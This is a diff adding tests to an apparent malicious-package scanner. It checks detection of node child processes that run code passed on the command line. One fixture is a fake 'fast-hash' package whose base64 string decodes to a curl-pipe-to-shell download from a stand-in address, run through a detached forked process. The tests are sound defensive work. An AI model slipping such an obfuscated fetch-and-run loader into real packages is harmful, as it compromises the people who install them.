@@ -64,3 +64,28 @@ execSync('codesign --sign id --keychain-password ' + pw + ' dist/app');`);
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('code handed to a node child process on its command line', () => {
+  it('fork with execArgv ["-e", decoded] is compiled code', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'fast-hash', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const { fork } = require('child_process');
+const src = Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzE5OC41MS4xMDAuMi94IHwgc2gnKQ==', 'base64').toString();
+fork(__filename, [], { execArgv: ['-e', src], detached: true, stdio: 'ignore' }).unref();`,
+    });
+    expect(r.evidence.map((e) => e.message)).toContainEqual(
+      expect.stringMatching(/^a node -e child process runs code decoded/),
+    );
+    expect(r.risk_level).toBe('critical');
+  });
+  it('quiet: node -e printing a version, and a child given --inspect', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'fast-hash', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const { spawnSync, fork } = require('child_process');
+spawnSync(process.execPath, ['-e', 'console.log(process.versions.node)']);
+fork(require.resolve('./worker'), [], { execArgv: ['--inspect=0'] });`,
+      'worker.js': 'process.on("message", (m) => process.send(m));',
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
